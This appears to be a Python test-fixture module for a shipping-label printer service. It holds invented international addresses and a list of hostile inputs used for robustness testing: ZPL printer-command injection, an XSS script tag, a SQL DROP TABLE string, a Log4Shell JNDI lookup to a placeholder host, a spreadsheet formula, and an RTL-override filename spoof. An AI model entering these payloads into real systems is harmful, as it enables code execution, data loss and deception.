"""Who sends parcels back: invented people with the names and addresses of real places."""

from __future__ import annotations

from services.labels.domain.sheet import AddressLines

_EVERYWHERE = """
AT|Jörg Österreicher|Währinger Straße 12/7|1090|Wien
AT|Maria-Theresia Größwang|Sankt-Pölten-Gasse 3|3100|St. Pölten
BE|Noëlle Vandenbroucke|Rue de l'Église 5 bte 12|1000|Bruxelles
BE|Bjørn D’Hoedt|Coupure Links 653|9000|Gent
BG|Цветанка Йорданова-Щерева|ул. „Граф Игнатиев“ № 15|1000|София
BG|Георги Ъглов|бул. Цар Борис III 99, ет. 4|9000|Варна
CH|Zoé Müller-L'Éplattenier|Rue du Grand-Chêne 8|1003|Lausanne
CH|Ueli Rüegsegger|Gässli 4|3800|Interlaken
CY|Ανδρέας Χατζηιωάννου|Λεωφόρος Μακαρίου Γ΄ 58|1075|Λευκωσία
CY|Παναγιώτα Κυπριανού|Οδός Ανεξαρτησίας 3|3036|Λεμεσός
CZ|Řehoř Dvořáček|Náměstí Míru 341/15|120 00|Praha 2 – Vinohrady
CZ|Žofie Šťastná-Křížová|Úvoz 7|602 00|Brno
DE|Änne Großkreutz|Schönhauser Allee 149 c/o Weiß|10435|Berlin
DE|Dr. Ümit Özdemir-Höß|Straße des 17. Juni 135, Hinterhaus 3. OG|10623|Berlin
DK|Søren Ærø Ågård|Nørre Allé 21, 2. th.|2200|København N
DK|Åse Bjørnsdatter|Ærøskøbing Torv 1|5970|Ærøskøbing
EE|Õnne Jõgi|Pärnu mnt 139e|11317|Tallinn
EE|Üllar Põder|Lõõtsa 8a|51003|Tartu
ES|Íñigo Núñez de Arce y Güell|C/ Marqués de la Ensenada, 14, 1º dcha.|28004|Madrid
ES|Núria Peñíscola i Gaudí|Plaça de l'Àngel 1-3|08002|Barcelona
FI|Åke Väinämöinen|Töölönkatu 37 A 12|00260|Helsinki
FI|Tytti Yrjölä|Hämeenkatu 5 b|33100|Tampere
FR|Maëlys L'Hôpital–Œuvré|12 ter, rue de l’Abbé-Grégoire|75006|Paris
FR|Ÿann Çağlar|Lieu-dit « Kerguélen »|29000|Quimper
GB|Siân O'Connor-Smythe|Flat 2/1, 14 Byres Road|G11 5JY|Glasgow
GB|Llŷr Gwynedd|Tŷ Newydd, Llanfairpwllgwyngyll|LL61 5UJ|Ynys Môn
GR|Ἀθηνᾶ Παπαδοπούλου|Οδός Ἑρμοῦ 5, 2ος ὄροφος|105 63|Αθήνα
GR|Γιώργος Ξυλούρης|Λεωφ. Κηφισίας 124|115 26|Αθήνα
HR|Đurđa Šćepanović|Ulica kneza Mislava 7|10000|Zagreb
HR|Željko Čačić|Đardin 3|21000|Split
HU|Őze Hűvös-Kőszegi|Andrássy út 60. fsz. 2.|1062|Budapest
HU|Tündérszép Ilona|Árpád fejedelem útja 26–28.|1023|Budapest
IE|Caoimhe Ní Dhónaill|Bóthar na Trá 3|H91 K8YF|Gaillimh
IE|Pádraig Ó Sé|An Daingean|V92 HY73|Trá Lí
IS|Þórður Guðmundsson|Laugavegur 12|101|Reykjavík
IS|Æsa Íðunnardóttir|Öldugata 5|101|Reykjavík
IT|Niccolò D'Aùria|Via dell'Università 4/bis|80134|Napoli
IT|Désirée Pfitscher|Weggensteinstraße / Via Weggenstein 12|39100|Bozen / Bolzano
LT|Žydrūnė Šiaučiūnaitė|Gedimino pr. 9-14|01103|Vilnius
LT|Ąžuolas Ėglė|Ūkmergės g. 2|08105|Vilnius
LV|Ģirts Ķēniņš|Brīvības iela 85 – 3|LV-1001|Rīga
LV|Ņina Ļebedeva|Žagatu iela 6|LV-3401|Liepāja
MC|Hélène Grimaldi-Ærts|7, avenue d'Ostende|98000|Monaco
MT|Ġorġ Ħaxxa Żammit|Triq il-Kbira 22|BKR 1234|Ħaż-Żebbuġ
MT|Ċensa Għawdex|Misraħ il-Ħelsien 1|VLT 1111|Il-Belt Valletta
NL|Zoë van 't Hooft-IJsselstein|Ĳburglaan 634-H|1087CE|Amsterdam
NL|Jan-Willem d’Août|Korte Poten 7 III|2511EB|'s-Gravenhage
NO|Håkon Ødegård|Storgata 5 A, H0201|0155|Oslo
NO|Kåre Sálašvággi|Deanugeaidnu 31|9730|Kárášjohka
PL|Łukasz Żółć-Gąsienica|ul. Świętokrzyska 14/7|00-050|Warszawa
PL|Zażółć Gęśla Jaźń|os. Tysiąclecia 3 m. 11|31-610|Kraków
PT|Conceição Simões Brandão|Av. 5 de Outubro, 70 – 3.º Esq.|1050-059|Lisboa
PT|João Pião|Praça do Município s/n|9900-100|Horta
RO|Ștefănescu Țăran-Îngust|Str. Ștefan cel Mare nr. 5, bl. A, sc. 2|020123|București
RO|Ăna Şerban|Aleea Ţesătorilor 9|700123|Iaşi
RS|Ђорђе Џаџић|Булевар краља Александра 73|11000|Београд
RS|Љиљана Његош|Ћирила и Методија 2|21000|Нови Сад
RU|Юлия Щукина-Ёлкина|Невский пр-т, д. 28, кв. 5|191186|Санкт-Петербург
SE|Åsa Öhrn-Ängström|Götgatan 78, lgh 1201|118 30|Stockholm
SE|Örjan Kåll|Sjöängsvägen 4 B|831 34|Östersund
SI|Črt Žižek|Šmartinska cesta 152g|1000|Ljubljana
SI|Špela Ščuka|Prešernov trg 5|1000|Ljubljana
SK|Ľubomír Ďurčanský|Hlboká cesta 2|833 36|Bratislava
SK|Ŕgiña Šťúrová|Nám. sv. Egídia 11|058 01|Poprad
TR|Şükrü Çiğdem Işık|İstiklâl Cd. No:12/3|34433|Beyoğlu/İstanbul
UA|Юрій Ґалаґан-Їжак|вул. Хрещатик, 22, кв. 7|01001|Київ
UA|Єва Щьоголів|просп. Свободи 28|79000|Львів
VN|Nguyễn Thị Mỹ Hưởng|Số 7 Đường Lê Lợi|700000|Thành phố Hồ Chí Minh
"""

HOSTILE = (
    "^XZ^XA^FO0,0^GB800,1200,800^FS",
    "~JR~HS^FX",
    "_5EXZ_7EJA",
    "^FH\\^FD_00^FS",
    "Nul\x00 bell\x07 \x1b[31mred\x1b[0m",
    "tab\tcarriage\rline\nvertical\x0bform\x0c",
    "abc\u202egnp.exe\u2066\u2069",
    "\u200bzero\u200cwidth\u200d\ufeff\u00ad",
    "Zoe" + "\u0301" * 300,
    "a" + "\u0489" * 40 + "\u20dd",
    "W" * 200,
    "Pat Teapot " * 18,
    "Llan" + "fair" * 49,
    "i" * 200,
    "שרה כהן",
    "محمد عبد الله",
    "Zoë עברית Teapot",
    "田中 太郎",
    "김철수",
    "สมชาย ใจดี",
    "अनिता शर्मा",
    "Teapot \U0001f600\u200d\U0001f525\ufe0f",
    "\U0001f1f3\U0001f1f1\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001d571\U0001d597\U0001d586\U0001d594",
    "ＦＵＬＬ　ＷＩＤＴＨ",
    ") Tj ET Q endstream endobj",
    "(((\\\\)%%EOF",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://x.example")',
    "'; DROP TABLE labels;--",
    "${jndi:ldap://x.example}",
    "%s%n%x {0} {{7*7}}",
    "\ue000\uf8ff\ufffd",
    "\ud800",
    "",
    "   \u00a0\u2003 ",
    "????????",
    "…………",
    "|" * 80,
    ">0>:>;>9",
)
"""What strangers type, on purpose or not."""

_HOME = AddressLines("Zoë Zonder", ("Dam 1",), "1012JS", "Amsterdam", "NL")


def from_everywhere() -> list[AddressLines]:
    """People whose every letter we promise to print."""
    rows = [line.split("|") for line in _EVERYWHERE.strip().split("\n")]
    return [
        AddressLines(name, (street,), code, town, land) for land, name, street, code, town in rows
    ]


def hostile() -> list[AddressLines]:
    """Each string as a name, as a street, and as everything at once."""
    return [
        address
        for text in HOSTILE
        for address in (
            AddressLines(text, _HOME.lines, _HOME.postal_code, _HOME.town, "NL"),
            AddressLines(_HOME.name, (text, "2 hoog"), _HOME.postal_code, text, "NL"),
            AddressLines(text, (text, text), text, text, text),
        )
    ]


def crowded() -> list[AddressLines]:
    """Addresses with more lines than a label has room for, and names that are longer than it."""
    people = from_everywhere()
    return [
        AddressLines(
            " & ".join(one.name for one in three),
            tuple(line for one in three for line in (*one.lines, "c/o " + one.name)),
            three[0].postal_code,
            " / ".join(one.town for one in three),
            three[0].country,
        )
        for three in zip(people[::5], people[1::5], people[2::5], strict=False)
    ][:12]
